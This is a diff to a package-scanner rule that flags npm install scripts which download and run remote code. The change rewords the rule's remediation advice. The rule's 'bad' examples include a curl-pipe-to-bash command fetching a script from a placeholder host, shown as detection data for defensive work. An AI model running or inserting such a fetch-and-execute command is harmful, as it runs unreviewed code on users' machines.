@@ -25,8 +25,9 @@ export const installScriptRemoteCode = defineInstallRule(
       'The code that runs is not part of the package. The server can send different code to each machine, and no ' +
       'review, lockfile, or digest covers that code.',
     remediation:
-      'Do not install the package. You can install an npm package with `--ignore-scripts` instead. If you publish ' +
-      'this package, include the code in it, or download a specific version of the file and verify its digest.',
+      'Do not install the package. To install an npm package without its install scripts, use `--ignore-scripts`. ' +
+      'If you publish this package, include the code in it, or download a specific version of the file and verify ' +
+      'its digest.',
     examples: {
       bad: [
         of('curl -s https://setup.example/run.sh | bash'),
